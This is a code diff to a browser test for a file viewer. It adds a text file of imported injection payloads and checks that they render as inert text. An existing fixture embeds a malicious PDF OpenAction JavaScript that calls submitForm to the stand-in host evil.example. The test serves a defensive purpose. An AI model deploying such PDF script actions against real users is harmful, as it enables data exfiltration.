@@ -5,6 +5,7 @@ import type { Page } from 'playwright-core';
 import { pdf } from '../fixtures/pdf.ts';
 import { type Desk, desk, hasChromium, shoot, signIn, violations } from './browser.ts';
 import { answer, file } from './office.ts';
+import { payloads } from './payloads.ts';
 
 const evil =
   '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example"\\)) >> ' +
@@ -28,6 +29,12 @@ describe.skipIf(!hasChromium)('looking at files', { timeout: 120_000 }, () => {
           cleaned: false,
         },
         { bytes: pdf(['x']), mime: 'application/zip', extension: '.zip', cleaned: false },
+        {
+          bytes: new TextEncoder().encode(payloads.join('\n')),
+          mime: 'text/plain',
+          extension: '.txt',
+          cleaned: false,
+        },
       ],
     });
   });
@@ -80,6 +87,16 @@ describe.skipIf(!hasChromium)('looking at files', { timeout: 120_000 }, () => {
     expect(await violations(page)).toEqual([]);
     await page.getByRole('button', { name: 'Close' }).click();
     expect(await page.getByRole('button', { name: 'Look at it File 4' }).count()).toBe(0);
+    await look(page, 5);
+    const more = page.getByRole('button', { name: /Show more/ });
+    await page.locator('.text-view div').first().waitFor();
+    while ((await more.count()) > 0) await more.click();
+    expect(
+      await page
+        .locator('.text-view div')
+        .allTextContents()
+        .then((all) => all.join('')),
+    ).toBe(payloads.join('\n'));
     expect(alarms).toEqual([]);
     await context.close();
   });
